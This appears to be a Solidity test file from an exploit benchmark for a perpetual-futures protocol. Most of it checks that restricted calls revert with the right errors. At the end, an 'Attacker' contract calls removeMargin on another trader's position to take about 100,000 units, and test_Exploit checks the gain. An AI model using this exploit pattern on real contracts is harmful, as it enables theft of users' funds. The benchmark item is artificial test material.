// SPDX-License-Identifier: BSD-3-Clause
pragma solidity 0.8.30;

// assay-canary-09f07437-5525-4eb7-a57e-ba8be1652998
import "../Base.sol";
import {NonceMap} from "../../src/libraries/NonceMap.sol";

contract Attacker {
    function run(IPerps perps, address trader) external {
        try perps.removeMargin(trader, "ETH", true, 100_000e6, address(this)) {} catch {}
    }
}

contract Proof is Base {
    Attacker private other;

    function start() internal override {
        other = new Attacker();
    }

    // --- refusals ---

    function test_RefusesStrangers() public {
        controlled(address(hub), abi.encodeCall(hub.handOver, (CEE)));
        controlled(address(hub), abi.encodeCall(hub.setOperator, (CEE, true)));
        controlled(address(hub), abi.encodeCall(hub.setFeed, (ETH, PriceHub.Feed(sources[0], sources[1], 1, 0))));
        IMarkets.Config memory config = IMarkets.Config(1e6, 0, 0.1e18, 0.05e18, true);
        controlled(address(markets), abi.encodeCall(markets.addMarket, ("ZINC", config)));
        controlled(address(markets), abi.encodeCall(markets.setMarket, (ETH, config)));
        controlled(address(markets), abi.encodeCall(markets.setOpen, (ETH, false)));
        controlled(address(insurance), abi.encodeCall(insurance.withdraw, (CEE, 1)));
        controlled(address(referrals), abi.encodeCall(referrals.setTerms, ("FAY", 0, 0)));
        controlled(address(desk), abi.encodeCall(desk.setRates, (0, 0, 0)));
        controlled(address(desk), abi.encodeCall(desk.sweep, (CEE)));
        operated(address(markets), abi.encodeCall(markets.enter, (ETH, true, 1, 1)));
        operated(address(markets), abi.encodeCall(markets.leave, (ETH, true, 1, 1)));
        operated(address(markets), abi.encodeCall(markets.settled, (ETH, 1)));
        operated(address(perps), abi.encodeCall(perps.increase, (CEE, ETH, false, 100e6, 50e6)));
        operated(address(perps), abi.encodeCall(perps.decrease, (CEE, ETH, false, 100e6)));
        operated(address(perps), abi.encodeCall(perps.seize, (ANA, ETH, true)));
        operated(address(insurance), abi.encodeCall(insurance.cover, (1)));
        operated(address(pool), abi.encodeCall(pool.pay, (1)));
        operated(address(desk), abi.encodeCall(desk.book, (CEE, 0)));
        refused(GOVERNANCE, address(hub), abi.encodeCall(hub.handOver, (address(0))), Controlled.NoController.selector);
        refused(CEE, address(keeper), abi.encodeCall(keeper.collect, ()), OrderKeeper.NotOwner.selector);
    }

    function test_RefusesFeeds() public {
        bytes4 bad = IPriceHub.BadFeed.selector;
        address at = address(hub);
        refused(GOVERNANCE, at, abi.encodeCall(hub.setFeed, (ETH, PriceHub.Feed(ISource(address(0)), sources[1], 1, 0))), bad);
        refused(GOVERNANCE, at, abi.encodeCall(hub.setFeed, (ETH, PriceHub.Feed(sources[0], sources[0], 1, 0))), bad);
        refused(GOVERNANCE, at, abi.encodeCall(hub.setFeed, (ETH, PriceHub.Feed(sources[0], sources[1], 1, 0.06e18))), bad);
        refused(CEE, at, abi.encodeCall(hub.quote, ("ZINC")), IPriceHub.UnknownFeed.selector);
        sources[0].setLag(301);
        refused(CEE, at, abi.encodeCall(hub.quote, (ETH)), IPriceHub.OldAnswer.selector);
        sources[0].setLag(0);
        sources[0].plan(block.timestamp, 2_061e8);
        refused(CEE, at, abi.encodeCall(hub.quote, (ETH)), IPriceHub.TooFarApart.selector);
        tell(0, 0);
        refused(CEE, at, abi.encodeCall(hub.quote, (ETH)), IPriceHub.NoAnswer.selector);
    }

    function test_RefusesSettings() public {
        address at = address(markets);
        IMarkets.Config memory config = IMarkets.Config(1e6, 0, 0.1e18, 0.05e18, true);
        refused(GOVERNANCE, at, abi.encodeCall(markets.addMarket, (ETH, config)), IMarkets.KnownMarket.selector);
        refused(GOVERNANCE, at, abi.encodeCall(markets.setOpen, ("ZINC", true)), IMarkets.UnknownMarket.selector);
        refused(GOVERNANCE, at, abi.encodeCall(markets.accrue, ("ZINC")), IMarkets.UnknownMarket.selector);
        bytes4 bad = IMarkets.BadConfig.selector;
        config.cap = 0;
        refused(GOVERNANCE, at, abi.encodeCall(markets.addMarket, ("ZINC", config)), bad);
        (config.cap, config.maxFunding) = (1e6, 0.03e18 / uint256(1 days));
        refused(GOVERNANCE, at, abi.encodeCall(markets.addMarket, ("ZINC", config)), bad);
        (config.maxFunding, config.maintenance) = (0, 0);
        refused(GOVERNANCE, at, abi.encodeCall(markets.addMarket, ("ZINC", config)), bad);
        config.maintenance = 0.1e18;
        refused(GOVERNANCE, at, abi.encodeCall(markets.addMarket, ("ZINC", config)), bad);
        at = address(referrals);
        refused(CEE, at, abi.encodeCall(referrals.register, ("FAY")), IReferrals.CodeTaken.selector);
        refused(CEE, at, abi.encodeCall(referrals.register, ("")), IReferrals.UnknownCode.selector);
        refused(CEE, at, abi.encodeCall(referrals.useCode, ("DEE")), IReferrals.UnknownCode.selector);
        refused(FAY, at, abi.encodeCall(referrals.useCode, ("FAY")), IReferrals.OwnCode.selector);
        refused(GOVERNANCE, at, abi.encodeCall(referrals.setTerms, ("DEE", 0, 0)), IReferrals.UnknownCode.selector);
        refused(GOVERNANCE, at, abi.encodeCall(referrals.setTerms, ("FAY", 0.31e18, 0)), IReferrals.BadTerms.selector);
        refused(GOVERNANCE, at, abi.encodeCall(referrals.setTerms, ("FAY", 0, 0.31e18)), IReferrals.BadTerms.selector);
        refused(GOVERNANCE, address(desk), abi.encodeCall(desk.setRates, (0.006e18, 0, 0)), IFeeDesk.BadRates.selector);
        refused(GOVERNANCE, address(desk), abi.encodeCall(desk.setRates, (0, 0.6e18, 0.5e18)), IFeeDesk.BadRates.selector);
    }

    function test_RefusesPool() public {
        refused(CEE, address(pool), abi.encodeCall(pool.deposit, (1e6, 2e9, CEE)), ILiquidityPool.TooLittle.selector);
        refused(CEE, address(pool), abi.encodeCall(pool.request, (0, 0)), ILiquidityPool.NoShares.selector);
        refused(address(perps), address(pool), abi.encodeCall(pool.pay, (ALL)), ILiquidityPool.NotEnoughCash.selector);
    }

    function test_RefusesOrders() public {
        address at = address(orders);
        IOrderBook.Terms memory t = terms(ETH, false, true, 1_000e6, 100e6);
        bytes4 stranger = IOrderBook.NotDelegate.selector;
        refused(CEE, at, abi.encodeCall(orders.place, (ANA, t)), stranger);
        refused(CEE, at, abi.encodeCall(orders.update, (waiting, 1, 1)), stranger);
        refused(CEE, at, abi.encodeCall(orders.cancel, (waiting)), stranger);
        refused(BO, at, abi.encodeCall(orders.update, (waiting, 0, 1)), IOrderBook.NoSize.selector);
        refused(EVE, at, abi.encodeCall(orders.execute, (waiting)), IOrderBook.NotDue.selector);
        refused(EVE, at, abi.encodeCall(orders.execute, (99)), IOrderBook.NoOrder.selector);
        vm.prank(CEE);
        uint256 id = orders.place(CEE, t);
        refused(EVE, at, abi.encodeCall(orders.execute, (id)), IOrderBook.TooEarly.selector);
        t.size = 0;
        refused(CEE, at, abi.encodeCall(orders.place, (CEE, t)), IOrderBook.NoSize.selector);
        (t.size, t.isIncrease) = (1_000e6, false);
        refused(CEE, at, abi.encodeCall(orders.place, (CEE, t)), IOrderBook.MarginOfDecrease.selector);
        refused(CEE, address(router), abi.encodeCall(router.open, (t, 0, 0)), BracketRouter.NotAnIncrease.selector);
    }

    function test_RefusesTickets() public {
        address at = address(orders);
        IOrderBook.Ticket memory t = ticket(7);
        bytes memory signature = signed(t);
        t.relayFee = 6e6;
        refused(FAY, at, abi.encodeCall(orders.placeSigned, (t, signature)), IOrderBook.BadSignature.selector);
        t.relayFee = 5e6;
        orders.placeSigned(t, signature);
        refused(FAY, at, abi.encodeCall(orders.placeSigned, (t, signature)), NonceMap.NonceUsed.selector);
        t = ticket(8);
        t.deadline = block.timestamp - 1;
        signature = signed(t);
        refused(FAY, at, abi.encodeCall(orders.placeSigned, (t, signature)), IOrderBook.TicketExpired.selector);
    }

    function test_RefusesTrades() public {
        bytes4 little = IPerps.TooLittleMargin.selector;
        undone(CEE, terms(ETH, true, true, 50e6, 50e6), IPerps.TooSmall.selector);
        undone(CEE, terms(ETH, true, true, 1_000e6, 0), little);
        undone(CEE, terms(ETH, true, true, 1_000e6, 10e6), little);
        undone(CEE, terms(ETH, true, true, 1_100_000e6, 60_000e6), IMarkets.CapReached.selector);
        undone(CEE, terms(TIN, true, true, 1_000e6, 100e6), IMarkets.MarketClosed.selector);
        undone(CEE, terms(ETH, true, false, 1_000e6, 0), IPerps.NoPosition.selector);
        undone(CEE, terms(ETH, false, false, 19_950e6, 0), IPerps.TooSmall.selector);
        refused(CEE, address(perps), abi.encodeCall(perps.addMargin, (CEE, ETH, true, 1e6)), IPerps.NoPosition.selector);
        refused(ANA, address(perps), abi.encodeCall(perps.removeMargin, (ANA, ETH, true, 120_000e6, ANA)), little);
    }

    function test_RefusesLosses() public {
        tell(0, 1_600e8);
        undone(ANA, terms(ETH, true, false, 10_000e6, 0), IPerps.TooLittleMargin.selector);
        tell(0, 1_000e8);
        undone(ANA, terms(ETH, true, false, 600_000e6, 0), IPerps.Underwater.selector);
        tell(0, 2_000e8);
        vm.warp(block.timestamp + 200 days);
        undone(ANA, terms(ETH, true, false, 600_000e6, 0), IPerps.Underwater.selector);
    }

    /// Requires that a call is refused for this reason.
    function refused(address who, address where, bytes memory call, bytes4 reason) private {
        vm.prank(who);
        (bool done, bytes memory why) = where.call(call);
        require(!done && bytes4(why) == reason, "not refused, or for another reason");
    }

    function controlled(address where, bytes memory call) private {
        refused(CEE, where, call, Controlled.NotController.selector);
    }

    function operated(address where, bytes memory call) private {
        refused(CEE, where, call, Controlled.NotOperator.selector);
    }

    /// Requires that an order is placed and cannot be executed for this reason.
    function undone(address who, IOrderBook.Terms memory t, bytes4 reason) private {
        vm.prank(who);
        uint256 id = orders.place(who, t);
        minute();
        refused(EVE, address(orders), abi.encodeCall(orders.execute, (id)), reason);
    }

    function exploit() public {
        other.run(perps, ANA);
    }

    function test_Exploit() public {
        exploit();
        require(usd.balanceOf(address(other)) >= 90_000e6, "no gain");
    }

    function attacker() public view returns (address) {
        return address(other);
    }
}
